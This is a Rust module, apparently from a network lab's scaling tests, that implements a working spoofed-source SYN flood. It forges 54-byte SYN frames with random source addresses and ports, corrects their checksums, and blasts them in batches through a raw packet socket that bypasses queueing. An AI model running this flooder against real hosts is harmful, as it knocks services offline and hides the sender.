//! Sends SYNs of spoofed sources as fast as one thread can.
//!
//! Frames go from a packet socket straight to the interface, many with one
//! system call. Every one has another source address and port, and right
//! checksums: the server takes it for a client.

use std::io;
use std::mem::zeroed;
use std::net::SocketAddrV4;
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::sync::Arc;
use std::sync::atomic::{AtomicU8, AtomicU64, Ordering};
use std::thread::JoinHandle;
use std::time::Duration;

use etherparse::PacketBuilder;
use nix::net::if_::if_nametoindex;
use vsnat_lab::LabError;

use crate::scale::ScaleError;
use crate::scale::flood::cpu::{self, ATTACKING};
use crate::scale::flood::network::{
    ATTACKER_MAC, FLOODED_MAC, LINK, Network, SPOOFED, SPOOFED_BITS,
};

/// Frames of one system call.
const BATCH: usize = 64;
const SYN_LEN: usize = 54;
const TTL: u8 = 64;
const SEQUENCE: u32 = 1_000;
const WINDOW: u16 = 4_000;
/// How often one that pauses looks whether it is to go on.
const NAP: Duration = Duration::from_millis(5);

const PAUSE: u8 = 0;
const FLOOD: u8 = 1;
const END: u8 = 2;

/// A thread that floods while it is told to.
pub struct Attacker {
    told: Arc<AtomicU8>,
    sent: Arc<AtomicU64>,
    thread: JoinHandle<Result<Result<(), ScaleError>, LabError>>,
}

impl Attacker {
    pub fn start(network: &Network, target: SocketAddrV4) -> Result<Self, ScaleError> {
        let (told, sent) = (Arc::new(AtomicU8::new(PAUSE)), Arc::new(AtomicU64::new(0)));
        let work = {
            let (told, sent) = (Arc::clone(&told), Arc::clone(&sent));
            move || attack(target, &told, &sent)
        };
        let thread = network.attacker.thread("attacker", work)?;
        Ok(Attacker { told, sent, thread })
    }

    pub fn flood(&self) {
        self.told.store(FLOOD, Ordering::Relaxed);
    }

    pub fn pause(&self) {
        self.told.store(PAUSE, Ordering::Relaxed);
    }

    pub fn sent(&self) -> u64 {
        self.sent.load(Ordering::Relaxed)
    }

    pub fn end(self) -> Result<(), ScaleError> {
        self.told.store(END, Ordering::Relaxed);
        self.thread.join().map_err(|_| ScaleError::Panic)??
    }
}

fn attack(target: SocketAddrV4, told: &AtomicU8, sent: &AtomicU64) -> Result<(), ScaleError> {
    cpu::stay_on(ATTACKING)?;
    let socket = socket().map_err(ScaleError::io("open a packet socket for the flood"))?;
    let mut batch = Batch::new(target);
    loop {
        match told.load(Ordering::Relaxed) {
            FLOOD => {
                batch.forge();
                let count = batch.send(&socket);
                let count = count.map_err(ScaleError::io("send the flood"))?;
                sent.fetch_add(count, Ordering::Relaxed);
            }
            END => return Ok(()),
            _ => std::thread::sleep(NAP),
        }
    }
}

/// Frames that are sent together.
struct Batch {
    frames: Vec<[u8; SYN_LEN]>,
    chance: u64,
}

impl Batch {
    fn new(target: SocketAddrV4) -> Self {
        let builder = PacketBuilder::ethernet2(ATTACKER_MAC, FLOODED_MAC)
            .ipv4(SPOOFED.octets(), target.ip().octets(), TTL)
            .tcp(0, target.port(), SEQUENCE, WINDOW)
            .syn();
        let mut syn = [0; SYN_LEN];
        // It is as long as the headers.
        let _ = builder.write(&mut syn.as_mut_slice(), &[]);
        Batch {
            frames: vec![syn; BATCH],
            chance: 0x9e37_79b9_7f4a_7c15,
        }
    }

    /// Gives every frame another source.
    fn forge(&mut self) {
        for frame in &mut self.frames {
            self.chance ^= self.chance << 13;
            self.chance ^= self.chance >> 7;
            self.chance ^= self.chance << 17;
            let host = self.chance as u32 >> SPOOFED_BITS;
            let source = (u32::from(SPOOFED) | host).to_be_bytes();
            let port = ((self.chance >> 32) as u16 | 0x400).to_be_bytes();
            replace(frame, 26, &source, &[24, 50]);
            replace(frame, 34, &port, &[50]);
        }
    }

    fn send(&mut self, socket: &OwnedFd) -> io::Result<u64> {
        // SAFETY: plain C structures, for which all zeros are valid.
        let mut messages: [libc::mmsghdr; BATCH] = unsafe { zeroed() };
        // SAFETY: as above.
        let mut pieces: [libc::iovec; BATCH] = unsafe { zeroed() };
        let each = messages.iter_mut().zip(&mut pieces).zip(&mut self.frames);
        for ((message, piece), frame) in each {
            piece.iov_base = frame.as_mut_ptr().cast();
            piece.iov_len = frame.len();
            message.msg_hdr.msg_iov = piece;
            message.msg_hdr.msg_iovlen = 1;
        }
        // SAFETY: the messages point to pieces and frames that outlive the call.
        let sent =
            unsafe { libc::sendmmsg(socket.as_raw_fd(), messages.as_mut_ptr(), BATCH as u32, 0) };
        match u64::try_from(sent) {
            Ok(sent) => Ok(sent),
            Err(_) => match io::Error::last_os_error() {
                // The other side takes no more just now.
                error if error.raw_os_error() == Some(libc::ENOBUFS) => Ok(0),
                error => Err(error),
            },
        }
    }
}

/// Replaces bytes of a frame and mends the checksums at the given places
/// (RFC 1624).
fn replace(frame: &mut [u8; SYN_LEN], at: usize, bytes: &[u8], checksums: &[usize]) {
    let word = |frame: &[u8; SYN_LEN], at: usize| {
        u32::from(u16::from_be_bytes([frame[at], frame[at + 1]]))
    };
    let mut change = 0u32;
    for (place, new) in (at..).step_by(2).zip(bytes.chunks(2)) {
        change += !word(frame, place) & 0xffff;
        frame[place..place + 2].copy_from_slice(new);
        change += word(frame, place);
    }
    for place in checksums {
        let mut sum = (!word(frame, *place) & 0xffff) + change;
        while sum > 0xffff {
            sum = (sum & 0xffff) + (sum >> 16);
        }
        frame[*place..*place + 2].copy_from_slice(&(!sum as u16).to_be_bytes());
    }
}

/// A packet socket that sends past the queues.
fn socket() -> io::Result<OwnedFd> {
    let index = if_nametoindex(LINK)?;
    // SAFETY: a call with plain arguments.
    let raw = unsafe { libc::socket(libc::AF_PACKET, libc::SOCK_RAW | libc::SOCK_CLOEXEC, 0) };
    if raw < 0 {
        return Err(io::Error::last_os_error());
    }
    // SAFETY: a descriptor that was opened just now, and is nobody else's.
    let socket = unsafe { OwnedFd::from_raw_fd(raw) };
    // SAFETY: a plain C structure, for which all zeros are valid.
    let mut address: libc::sockaddr_ll = unsafe { zeroed() };
    address.sll_family = libc::AF_PACKET as u16;
    address.sll_ifindex = index as i32;
    let bypass: libc::c_int = 1;
    // SAFETY: both structures are as long as is said, and outlive the calls.
    let failed = unsafe {
        libc::setsockopt(
            raw,
            libc::SOL_PACKET,
            libc::PACKET_QDISC_BYPASS,
            (&raw const bypass).cast(),
            size_of::<libc::c_int>() as u32,
        ) != 0
            || libc::bind(
                raw,
                (&raw const address).cast(),
                size_of::<libc::sockaddr_ll>() as u32,
            ) != 0
    };
    match failed {
        true => Err(io::Error::last_os_error()),
        false => Ok(socket),
    }
}

#[cfg(test)]
mod tests {
    use std::net::Ipv4Addr;

    use etherparse::{Ipv4Header, Ipv4HeaderSlice, TcpHeaderSlice};

    use super::*;

    #[test]
    fn forged_frames_have_right_checksums() {
        let mut batch = Batch::new(SocketAddrV4::new(Ipv4Addr::new(198, 51, 100, 7), 80));
        batch.forge();
        let mut sources = std::collections::BTreeSet::new();
        for frame in &batch.frames {
            let ip = Ipv4HeaderSlice::from_slice(&frame[14..]).unwrap();
            let header: Ipv4Header = ip.to_header();
            assert_eq!(header.header_checksum, header.calc_header_checksum());
            let tcp = TcpHeaderSlice::from_slice(&frame[34..]).unwrap();
            let wanted = tcp.calc_checksum_ipv4(&ip, &[]).unwrap();
            assert_eq!(tcp.checksum(), wanted);
            assert!(ip.source_addr().octets()[0] == 100 && tcp.syn());
            sources.insert((ip.source_addr(), tcp.source_port()));
        }
        assert_eq!(sources.len(), BATCH);
    }
}
